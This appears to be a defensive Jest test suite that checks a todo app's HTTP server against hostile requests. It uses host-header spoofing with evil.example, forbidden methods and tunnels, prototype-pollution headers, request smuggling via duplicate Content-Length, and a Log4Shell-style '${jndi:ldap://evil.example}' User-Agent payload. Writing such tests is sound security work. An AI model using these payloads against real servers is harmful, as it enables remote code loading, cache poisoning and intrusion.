import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { MALFORMED, OVERSIZED, SLOPPY } from './hostile-requests/framing.ts';
import { expectProblem, expectSound } from './hostile-requests/sound.ts';
import { BAD_HOSTS, SPELLINGS, TARGETS } from './hostile-requests/targets.ts';
import { ask, exchange, request } from './support/raw-request.ts';
import { createTestApp, type TestApp } from './support/test-app.ts';
import { newBrowser, newEmail, PASSWORD, type TestUser } from './support/test-user.ts';

// None of them may cause an error that nobody catches: Jest listens for those, and fails the suite they happen in.

let test: TestApp;
let ada: TestUser;
beforeAll(async () => {
  test = await createTestApp({ apiRequestsPerMinute: 100_000 });
  ada = await test.newUser();
}, 30_000);
afterAll(() => test.close());

const send = (line: string, headers: string[] = [], body?: string) =>
  ask(test.app, request(line, headers, body));
const bearer = () => `Authorization: Bearer ${ada.token}`;

/** Paths that are there, and what may be done with them. */
const PATHS: [path: string, allowed: string][] = [
  ['/api/todos', 'GET, HEAD, PATCH, POST'],
  ['/api/todos/00000000-0000-7000-8000-000000000000', 'DELETE, GET, HEAD, PATCH'],
  ['/api/auth/sign-in/email', 'POST'],
  ['/api/auth/token', 'GET, HEAD'],
  ['/api/health/live', 'GET, HEAD'],
  ['/.well-known/jwks.json', 'GET, HEAD'],
];

describe.each(['TRACE', 'TRACK', 'CONNECT', 'PROPFIND', 'QUERY', 'PURGE', 'SEARCH', 'LINK', 'FOO'])(
  'the method %s (ASVS 4.1.4)',
  (method) => {
    it.each(PATHS)('is refused on %s', async (path, allowed) => {
      const answer = await send(`${method} ${path}`, [bearer(), 'X-Secret: secret']);
      expectProblem(answer, [405, 501]);
      if (answer.status === 405) expect(answer.headers['allow']).toBe(allowed);
      expect(answer.body).not.toContain('secret');
    });

    it.each(['/', '/sign-in', '/api/nothing', '/nothing.js'])('is refused on %s', async (path) => {
      expectProblem(await send(`${method} ${path}`), [404, 405, 501]);
    });
  },
);

describe('a method on its own terms', () => {
  it.each(['CONNECT latchlist.test:443', 'CONNECT evil.example:80', 'CONNECT /'])(
    '%s opens no tunnel',
    async (line) => {
      expectProblem(await send(line), [400, 404, 405, 501]);
    },
  );

  it.each(['OPTIONS *', 'OPTIONS /api/todos', 'OPTIONS /api/auth/sign-in/email'])(
    '%s gives no leave',
    async (line) => {
      const answer = await send(line, [
        'Origin: https://evil.example',
        'Access-Control-Request-Method: POST',
      ]);
      expectSound(answer, [200, 204, 400, 404, 405]);
      expect(Object.keys(answer.headers).filter((name) => name.startsWith('access-control-'))).toEqual([]);
    },
  );

  it.each(['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'])(
    '%s changes none',
    async (name) => {
      const id = await ada.addTodo();
      expectSound(await send(`GET /api/todos/${id}`, [bearer(), `${name}: DELETE`]), [200]);
      expectProblem(await send(`POST /api/todos/${id}`, [bearer(), `${name}: DELETE`]), [405]);
      await ada.as('get', `/api/todos/${id}`).expect(200);
    },
  );
});

describe('a Host header of', () => {
  it.each(BAD_HOSTS)('%s is refused (RFC 9112, 3.2)', async (_, lines) => {
    const text = `GET /api/health/live HTTP/1.1\r\n${lines.join('\r\n')}\r\nConnection: close\r\n\r\n`;
    expectProblem(await ask(test.app, text), [400]);
  });

  it('somebody else changes nothing, and comes back nowhere', async () => {
    for (const path of [
      '/',
      '/api/todos',
      '/api/auth/get-session',
      '/.well-known/jwks.json',
      '/api/openapi.json',
    ]) {
      const { status, headers, body } = await send(`GET ${path}`, ['Host: evil.example']);
      expect([path, status]).toEqual([path, (await test.api.get(path)).status]);
      expect(JSON.stringify([headers, body])).not.toContain('evil');
    }
  });
});

describe('on a fresh start, a first request with the Host of somebody else', () => {
  it('decides nothing for those after it (GHSA-569q-mpph-wgww)', async () => {
    const fresh = await createTestApp();
    const evil = ['Host: evil.example', 'X-Forwarded-Host: evil.example', 'X-Forwarded-Proto: https'];
    await ask(fresh.app, request('GET /api/auth/get-session', evil));
    const body = JSON.stringify({ email: newEmail(), password: PASSWORD });
    await ask(
      fresh.app,
      request('POST /api/auth/sign-in/email', [...evil, 'Content-Type: application/json'], body),
    );
    const user = await fresh.newUser();
    await user.as('get', '/api/todos').expect(200);
    const fromEvil = newBrowser(fresh.app.getHttpServer())
      .post('/api/auth/sign-out')
      .set('Cookie', user.cookie);
    await fromEvil.set('Origin', 'https://evil.example').send({}).expect(403);
    await fresh.close();
  }, 30_000);
});

describe('the target', () => {
  it.each(TARGETS)('%s is refused', async (target) => {
    const { answers } = await exchange(test.app, request(`GET ${target}`, [bearer()]));
    const [answer] = answers;
    expect(answers).toHaveLength(1);
    if (answer) expectProblem(answer, [400, 404, 414, 431]);
  });

  it.each(SPELLINGS.map((spell) => [spell('/api/…'), spell] as const))(
    '%s puts nothing into a cache (ASVS 14.3.2)',
    async (_, spell) => {
      for (const path of [
        '/api/todos',
        '/api/users/me',
        '/api/auth/token',
        '/api/auth/get-session',
        '/api/nothing',
      ]) {
        const answer = await send(`GET ${spell(path)}`, [bearer(), `Cookie: ${ada.cookie}`]);
        expectSound(answer, [200, 400, 404]);
        expect([path, answer.headers['cache-control']]).toEqual([path, 'no-store']);
      }
    },
  );
});

describe('a request', () => {
  it.each(MALFORMED)('with %s is refused, and ends the connection (ASVS 4.2.1)', async (_, bytes) => {
    const { answers, closed } = await exchange(test.app, bytes);
    expect(answers.map(({ status }) => status)).toEqual([400]);
    expect(closed).toBe(true);
    for (const answer of answers) expectProblem(answer, [400]);
  });

  it.each(OVERSIZED)('with %s is refused, and ends the connection', async (_, bytes, statuses) => {
    const { answers, closed } = await exchange(test.app, bytes);
    expect(closed).toBe(true);
    expect(answers).toHaveLength(1);
    for (const answer of answers) expectProblem(answer, statuses);
  });

  it.each([
    '__proto__: x',
    '__proto__: x\r\n__proto__: y',
    'constructor: x',
    'hasOwnProperty: x',
    'toString: x',
    'Connection: authorization',
    'Connection: keep-alive, upgrade\r\nUpgrade: websocket',
    'Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
    'Expect: 100-continue',
    'Range: bytes=0-0,0-0,0-0',
    'Accept: \xff',
    'Accept-Encoding: evil, *;q=0',
    'If-None-Match: "\xff"',
    'If-Modified-Since: never',
    'User-Agent: \x80\xff${jndi:ldap://evil.example}',
    'Cookie: =; ;;; a; =b; latchlist.session_token',
    'Cookie: latchlist.session_token=%ff%',
    'Forwarded: for="[::"',
    'X-Forwarded-For: \xff, , ,',
    'Traceparent: 00-\xff',
    'Accept-Version: 1',
  ])('with %j is answered as one without (CVE-2026-21710)', async (header) => {
    expectSound(await send('GET /api/health/live', header.split('\r\n')), [200]);
    expectSound(await send('GET /api/auth/get-session', header.split('\r\n')), [200]);
    expectProblem(await send('GET /api/todos', header.split('\r\n')), [401]);
  });

  it('that expects what nobody knows is refused', async () => {
    expectProblem(await send('GET /api/health/live', ['Expect: more']), [417]);
  });

  it.each([
    ['garbage', 'garbage\r\n\r\n'],
    ['two lengths', request('POST /api/auth/sign-out', ['Content-Length: 1', 'Content-Length: 2'], '{}')],
    ['an expectation', request('GET /api/health/live', ['Expect: more'])],
    ['a method for tunnels', request('CONNECT latchlist.test:443')],
  ])('with %s does not take the answer of the one before it (RFC 9112, 9.3.2)', async (_, bytes) => {
    const right = request('GET /api/users/me', [bearer()]).replace('Connection: close\r\n', '');
    const { answers } = await exchange(test.app, right + bytes);
    expect([200, undefined]).toContain(answers[0]?.status);
  });

  it.each(SLOPPY)('with %s is read as one, or refused', async (_, bytes) => {
    expectSound(await ask(test.app, bytes), [200, 400, 501, 505]);
  });
});

describe('after all of that', () => {
  it('the server is as it was (ASVS 16.5.4)', async () => {
    await test.api.get('/api/health/live').expect(200);
    await test.api.get('/api/health/ready').expect(200);
    await ada.as('get', '/api/todos').expect(200);
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });
});
